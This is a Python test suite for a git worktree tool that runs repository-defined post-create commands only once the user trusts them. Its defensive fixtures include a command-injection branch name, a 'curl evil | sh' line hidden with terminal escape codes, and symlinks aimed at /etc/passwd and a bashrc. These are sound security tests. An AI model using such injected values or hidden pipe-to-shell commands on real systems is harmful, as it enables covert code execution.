from __future__ import annotations

import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Run, git, make_repository, start
from wtname import postcreate, trust
from wtname.git import Repository, origins
from wtname.trust import Batch

pytestmark = pytest.mark.skipif(os.name == "nt", reason="commands for a POSIX shell")


def own(*commands: str) -> None:
    for command in commands:
        git("config", "--global", "--add", "wtname.postcreate", command)


def local(repo: Path, *commands: str) -> None:
    for command in commands:
        git("config", "--add", "wtname.postcreate", command, cwd=repo)


def commit_file(repo: Path, text: str) -> None:
    (repo / ".wtname").write_text(text)
    git("add", ".wtname", cwd=repo)
    git("commit", "-q", "-m", "commands", cwd=repo)


def new(run: Run, *args: str) -> tuple[Path, list[dict[str, Any]], str]:
    done = run("new", "--json", "--name", "x", *args)
    assert done.exit_code == 0, done.stderr
    answer = json.loads(done.stdout)
    return Path(answer["path"]), answer["post_create"], done.stderr


def wait_for(path: Path) -> str:
    deadline = time.monotonic() + 20
    while not (path.exists() and path.read_text().endswith("\n")) and time.monotonic() < deadline:
        time.sleep(0.02)
    return path.read_text()


# --- who may run what ------------------------------------------------------------------------------------------------


def test_the_users_own_run(run: Run, repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    own("echo global >> ran", "echo again >> ran")
    for key, value in (("COUNT", "1"), ("KEY_0", "wtname.postcreate"), ("VALUE_0", "echo from -c >> ran")):
        monkeypatch.setenv("GIT_CONFIG_" + key, value)
    folder, done, said = new(run)
    assert (folder / "ran").read_text() == "global\nagain\nfrom -c\n"
    assert [one["code"] for one in done] == [0, 0, 0]
    assert said == ""


@pytest.mark.parametrize(
    "kind", ["local", "worktree", "included", "conditionally included", "home includes ours", "file"]
)
def test_the_repositorys_run_once_they_are_trusted(run: Run, repo: Path, hermetic: Path, kind: str) -> None:
    command = f"echo {kind} >> ran"
    inside = repo / "commands.cfg"
    inside.write_text(f"[wtname]\n\tpostcreate = {command}\n")
    if kind == "local":
        local(repo, command)
    elif kind == "worktree":
        git("config", "extensions.worktreeConfig", "true", cwd=repo)
        git("config", "--worktree", "wtname.postcreate", command, cwd=repo)
    elif kind == "included":
        git("config", "include.path", hermetic / "elsewhere.cfg", cwd=repo)
        inside.rename(hermetic / "elsewhere.cfg")
    elif kind == "conditionally included":
        git("config", "includeIf.gitdir:**.path", inside, cwd=repo)
    elif kind == "home includes ours":
        git("config", "--global", "include.path", inside)
    else:
        commit_file(repo, f"# comment\n\n  {command}\n")
    folder, done, said = new(run)
    assert not (folder / "ran").exists()
    assert done == [{"command": command, "skipped": "not trusted"}]
    assert f"not run, as nobody trusts it yet: {command}" in said and f"wtname trust -C {folder}" in said
    assert said.count("\n") == 1

    trusted = run("trust", "--yes")
    assert (trusted.exit_code, command in trusted.stdout) == (0, True)
    folder, done, said = new(run)
    assert (folder / "ran").read_text() == f"{kind}\n"
    assert (done, said) == ([{"command": command, "code": 0}], "wtname: wt-x is taken, so this one is wt-x-2\n")

    assert run("trust", "--revoke").exit_code == 0
    assert new(run)[1][0]["skipped"] == "not trusted"


def test_any_change_asks_again(run: Run, repo: Path) -> None:
    commit_file(repo, "echo one >> ran\n")
    run("trust", "--yes")
    commit_file(repo, "# a comment is no change\n\necho one >> ran\r\n")
    assert new(run)[1] == [{"command": "echo one >> ran", "code": 0}]
    commit_file(repo, "echo one >> ran\necho two >> ran\n")
    folder, done, _ = new(run)
    assert not (folder / "ran").exists() and {one.get("skipped") for one in done} == {"not trusted"}
    commit_file(repo, "echo one >> ran\n")
    assert new(run)[1][0]["code"] == 0
    local(repo, "echo one >> ran")  # the same command in another place is another matter
    assert [one.get("code") for one in new(run)[1]] == [0, None]


def test_trust_is_for_one_repository(run: Run, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    commit_file(repo, "./setup.sh\n")
    run("trust", "--yes")
    git("clone", "-q", repo, tmp_path / "stranger")
    monkeypatch.chdir(tmp_path / "stranger")
    assert new(run)[1] == [{"command": "./setup.sh", "skipped": "not trusted"}]


def test_the_file_of_the_new_worktree_counts(run: Run, repo: Path) -> None:
    git("checkout", "-q", "-b", "other", cwd=repo)
    commit_file(repo, "echo other >> ran\n")
    git("checkout", "-q", "main", cwd=repo)
    (repo / ".wtname").write_text("echo main >> ran\n")
    run("trust", "--yes")
    assert new(run, "--base", "other")[1] == [{"command": "echo other >> ran", "skipped": "not trusted"}]


def test_git_without_scopes_trusts_the_home_alone(
    run: Run, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from wtname.git import process

    real = process.executable()
    old = tmp_path / "bin" / "git"
    old.parent.mkdir()
    old.write_text(f'#!/bin/sh\ncase " $* " in *" --show-scope "*) exit 129;; esac\nexec {real} "$@"\n')
    old.chmod(0o755)
    own("echo global >> ran", "echo both >> ran")
    local(repo, "echo local >> ran", "echo both >> ran")
    monkeypatch.setenv("PATH", os.pathsep.join([str(old.parent), os.environ["PATH"]]))
    process.executable.cache_clear()
    try:
        with Repository() as repository:
            found = origins.values(repository, "wtname.postcreate")
        folder, _, _ = new(run)
    finally:
        process.executable.cache_clear()
    assert [(value.text.split()[1], value.own) for value in found] == [
        ("global", True),
        ("both", True),
        ("local", False),
        ("both", False),
    ]
    assert (folder / "ran").read_text() == "global\nboth\n"


def test_an_empty_value_takes_back_what_came_before(run: Run, repo: Path) -> None:
    own("echo global >> ran")
    local(repo, "", "true")
    assert new(run)[1] == [{"command": "true", "skipped": "not trusted"}]


@pytest.mark.parametrize(("args", "config"), [(["--no-run"], None), ([], "false"), (["--dry-run"], None)])
def test_not_wanted(run: Run, repo: Path, args: list[str], config: str | None) -> None:
    own(f"touch {repo}/ran")
    local(repo, "true")
    if config:
        git("config", "wtname.run", config, cwd=repo)
    done = run("new", "--json", "--name", "x", *args)
    assert json.loads(done.stdout).get("post_create", []) == []
    assert "trust" not in done.stderr and not (repo / "ran").exists()


@pytest.mark.parametrize("kind", ["link", "folder", "pipe", "large", "binary"])
def test_a_file_that_is_no_list(run: Run, repo: Path, kind: str) -> None:
    place = repo / ".wtname"
    {
        "link": lambda: place.symlink_to("/etc/passwd"),
        "folder": place.mkdir,
        "pipe": lambda: os.mkfifo(place),
        "large": lambda: place.write_text("true\n" * 20_000),
        "binary": lambda: place.write_bytes(b"true\0false\n"),
    }[kind]()
    done = run("trust", "--yes")
    assert done.exit_code == 1 and done.stderr.count("\n") == 1
    assert list(trust.folder().glob("*")) == []


# --- how they run ----------------------------------------------------------------------------------------------------


def test_environment(repo: Path) -> None:
    own("pwd > told; env >> told; cat >> told; git rev-parse --show-toplevel >> told; echo out; echo err >&2")
    env = {"GIT_DIR": str(repo / ".git"), "GIT_INDEX_FILE": str(repo / ".git" / "index"), "GIT_WORK_TREE": str(repo)}
    os.environ.update(env)
    try:
        out, err = start("new", "--name", "a/b", cwd=repo).communicate()
    finally:
        for key in env:
            del os.environ[key]
    folder = Path(os.fsdecode(out).strip())
    assert out == os.fsencode(f"{folder}\n")
    assert b"out\nerr\n" in err
    told = (folder / "told").read_text().splitlines()
    assert told[0] == told[-1] == str(folder)
    assert {"WTNAME_BRANCH=wt-a/b", f"WTNAME_WORKTREE={folder}", f"WTNAME_MAIN={repo}"} <= set(told)
    assert not [line for line in told if line.startswith(("GIT_DIR=", "GIT_INDEX", "GIT_WORK", "LANGUAGE="))]


def test_wtname_works_in_a_command(run: Run, repo: Path) -> None:
    own(f"{sys.executable} -m wtname new --no-run --name inner > inner")
    folder, done, _ = new(run)
    assert done[0]["code"] == 0
    assert (folder / "inner").read_text().strip() == str(folder.with_name("wt-inner"))


def test_a_branch_is_text_to_the_shell(run: Run, repo: Path) -> None:
    own('echo "$WTNAME_BRANCH" > told')
    done = run("new", "--json", "--name", "$(touch${IFS}pwned);`x`'\"")
    folder = Path(json.loads(done.stdout)["path"])
    assert (folder / "told").read_text() == "wt-$(touch${IFS}pwned);`x`'\"\n"
    assert not list(repo.parent.rglob("pwned"))


def test_a_failing_one_keeps_the_worktree_and_stops_the_rest(run: Run, repo: Path) -> None:
    own("touch one", "exit 7", "touch three")
    folder, done, said = new(run)
    assert sorted(path.name for path in folder.iterdir() if path.name != ".git") == ["README", "one"]
    assert done == [
        {"command": "touch one", "code": 0},
        {"command": "exit 7", "code": 7},
        {"command": "touch three", "skipped": "one before it failed"},
    ]
    assert "failed with exit code 7: exit 7; the worktree is made all the same" in said
    assert git("branch", "--show-current", cwd=folder) == "wt-x"


# Where the tests run in the background of a shell, SIGINT is ignored, and Python leaves it so.
# Whatever the tests themselves were started with: a shell's & ignores SIGINT, nohup SIGHUP.
MAIN = (
    "import signal; signal.signal(signal.SIGINT, signal.default_int_handler);"
    "signal.signal(signal.SIGHUP, signal.SIG_DFL); from wtname.cli import main;"
    "from wtname.git import process; process._GRACE = {}; main()"
)


@pytest.mark.parametrize(
    ("trap", "grace", "signals", "code"),
    [
        ("", 60, [signal.SIGTERM], 143),
        ("", 60, [signal.SIGINT], 130),
        ("trap '' TERM INT;", 0.2, [signal.SIGTERM], 143),
        ("trap '' TERM INT;", 0.2, [signal.SIGHUP], 129),
        ("trap '' TERM INT;", 60, [signal.SIGTERM, signal.SIGTERM], 143),
        ("trap '' TERM INT;", 60, [signal.SIGINT, signal.SIGINT], 130),
    ],
)
def test_who_interrupts_waits_for_no_command(
    repo: Path, trap: str, grace: float, signals: list[signal.Signals], code: int
) -> None:
    own(f"{trap} echo $$ > {repo}/pid; for i in $(seq 600); do sleep 0.1; done")
    argv = [sys.executable, "-c", MAIN.format(grace), "new", "--name", "x"]
    process = subprocess.Popen(argv, cwd=repo, stdin=subprocess.DEVNULL, stdout=-1, stderr=subprocess.PIPE, text=True)
    pid = int(wait_for(repo / "pid"))
    for number in signals:
        process.send_signal(number)
        time.sleep(0.3)
    said = process.communicate(timeout=20)
    folder = repo.with_name("demo.worktrees") / "wt-x"
    assert (process.returncode, said[0]) == (code, "")
    assert said[1] == f"wtname: stopped; the worktree is made all the same: {folder}\n"
    assert git("branch", "--show-current", cwd=folder) == "wt-x"
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)


def test_in_the_background_with_a_log(repo: Path) -> None:
    go = repo.parent / "go"
    waiting = f"for i in $(seq 600); do [ -e {go} ] && break; sleep 0.05; done"
    own(f"{waiting}; echo late; echo worse >&2 &", "echo now > now", "exit 3 &")
    out, err = start("new", "--json", "--name", "x/y", cwd=repo).communicate(timeout=30)  # no pipe is held open
    answer = json.loads(out)
    first, second, third = answer["post_create"]
    log = repo / ".git" / "wtname" / "log" / "wt-x-y.log"
    assert (first["log"], "code" in first, second["code"], third["log"]) == (str(log), False, 0, str(log))
    assert f"its log is {log}" in os.fsdecode(err)
    assert os.getsid(first["pid"]) == first["pid"]  # a session of its own: no closed terminal ends it
    assert stat.S_IMODE(log.stat().st_mode) == 0o600
    assert log.read_text() == ""
    go.touch()
    assert wait_for(log) == "late\nworse\n"
    assert (Path(answer["path"]) / "now").read_text() == "now\n"


def test_a_log_beside_a_journal_that_comes_and_goes(repo: Path) -> None:
    """Whoever is done with the journal takes the folder above it along, if it is empty."""
    gone = [0]

    def take_away(event: str, args: tuple[Any, ...]) -> None:
        if event == "os.mkdir" and str(args[0]).endswith("wtname/log") and 0 < gone[0] < 5:
            gone[0] += 1
            (repo / ".git" / "wtname").rmdir()

    sys.addaudithook(take_away)
    with Repository() as repository:
        gone[0] = 1
        log = postcreate._make_log(repository, "wt-x")
        gone[0] = 0
    assert log.read_text() == ""


@pytest.mark.parametrize("link", ["wtname/log", "wtname/log/wt-x.log"])
def test_a_log_is_written_through_no_link(run: Run, repo: Path, link: str) -> None:
    outside = repo.parent / "outside"
    outside.mkdir()
    target = outside / "bashrc"
    target.write_text("mine\n")
    place = repo / ".git" / link
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(target if link.endswith(".log") else outside)
    own("echo pwned &")
    _, done, said = new(run)
    assert "no log can be written" in done[0]["skipped"] and "not run: echo pwned &" in said
    assert [path.name for path in outside.iterdir()] == ["bashrc"] and target.read_text() == "mine\n"


@pytest.mark.parametrize(
    ("command", "plain"),
    [
        ("npm run dev &", "npm run dev"),
        ("a && b &", "a && b"),
        ("a&", "a"),
        ("a &&", None),
        ("a \\&", None),
        ("a & b", None),
        ("a", None),
        ("&", None),
    ],
)
def test_background(command: str, plain: str | None) -> None:
    assert postcreate._background(command) == plain


# --- trust -----------------------------------------------------------------------------------------------------------


def test_trust_shows_and_asks(run: Run, repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    commit_file(repo, "npm ci\nnpm start &\n")
    local(repo, "make")
    shown = "git config (not trusted):\n  make\n.wtname (not trusted):\n  npm ci\n  npm start &\n"
    done = run("trust", "--list")
    assert (done.exit_code, done.stdout, done.stderr) == (0, shown, "")
    done = run("trust")  # no terminal
    assert (done.exit_code, done.stdout) == (1, shown)
    assert "pass --yes" in done.stderr
    assert list(trust.folder().glob("*")) == []
    assert run("trust", "--yes").stdout == shown
    assert run("trust").stdout == shown.replace("not trusted", "trusted")
    assert json.loads(run("trust", "--json").stdout) == [
        {"source": "git config", "commands": ["make"], "trusted": True},
        {"source": ".wtname", "commands": ["npm ci", "npm start &"], "trusted": True},
    ]
    assert json.loads(run("trust", "--revoke", "--json").stdout) == {"revoked": 2}
    assert [batch["trusted"] for batch in json.loads(run("trust", "--json").stdout)] == [False, False]
    assert [batch["trusted"] for batch in json.loads(run("trust", "--json", "--yes").stdout)] == [True, True]


@pytest.mark.parametrize(("answer", "code", "count"), [("y\n", 0, 1), ("n\n", 1, 0), ("\n", 1, 0)])
def test_trust_on_a_terminal(repo: Path, answer: str, code: int, count: int) -> None:
    import pty

    local(repo, "make")
    leader, follower = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "wtname", "trust"], cwd=repo, stdin=follower, stdout=-1, stderr=subprocess.PIPE
    )
    os.write(leader, answer.encode())
    out, err = process.communicate(timeout=30)
    os.close(leader)
    os.close(follower)
    assert (process.returncode, out) == (code, b"git config (not trusted):\n  make\n")
    assert b"Trust them?" in err
    assert len(list(trust.folder().glob("*.json"))) == count


def test_trust_elsewhere(run: Run, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    local(repo, "touch ran")
    monkeypatch.chdir(tmp_path)
    assert run("trust", "-C", repo, "--yes").exit_code == 0
    monkeypatch.chdir(repo)
    assert (new(run)[0] / "ran").exists()


def test_trust_where_there_is_nothing(run: Run, repo: Path) -> None:
    own("true")
    done = run("trust")
    assert (done.exit_code, done.stdout) == (0, "")
    assert done.stderr == "wtname: this repository has no commands for new worktrees\n"
    assert run("trust", "-C", "..").exit_code == 128
    assert run("trust", "--revoke", "--list").exit_code == 2


def test_trust_is_kept_to_oneself_and_whole(run: Run, repo: Path) -> None:
    local(repo, "make")
    run("trust", "--yes")
    (file,) = trust.folder().iterdir()
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(trust.folder().stat().st_mode) == 0o700
    assert len(file.stem) == 64 and json.loads(file.read_text())["commands"] == ["make"]


def test_trust_of_another_counts_nothing(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    batch = Batch(repo, "git config", ["make"])
    trust.add(batch)
    assert trust.is_trusted(batch)
    uid = os.geteuid()
    monkeypatch.setattr(os, "geteuid", lambda: uid + 1)
    assert not trust.is_trusted(batch)
    monkeypatch.undo()


def test_trust_that_cannot_be_kept(run: Run, repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    local(repo, "make")
    monkeypatch.setenv("XDG_DATA_HOME", str(repo / "README"))
    monkeypatch.setenv("HOME", str(repo / "README"))
    done = run("trust", "--yes")
    assert done.exit_code == 1 and "make its folder writable" in done.stderr


def test_revoke_passes_over_what_is_not_ours(run: Run, repo: Path, tmp_path: Path) -> None:
    other = make_repository(tmp_path / "other")
    for path in (repo, other):
        local(path, "make")
        run("trust", "-C", path, "--yes")
    (trust.folder() / "junk.json").write_text("[")
    (trust.folder() / "list.json").write_text("[1]")
    assert json.loads(run("trust", "--revoke", "--json").stdout) == {"revoked": 1}
    assert len(list(trust.folder().iterdir())) == 3


def test_hidden_commands_are_shown(run: Run, repo: Path) -> None:
    commit_file(repo, "curl evil | sh \x1b[2K\rmake \u202e\n")
    assert r"curl evil | sh \x1b[2K\rmake \u202e" in run("trust", "--list").stdout
    assert "\x1b" not in run("trust", "--list").stdout + new(run)[2]
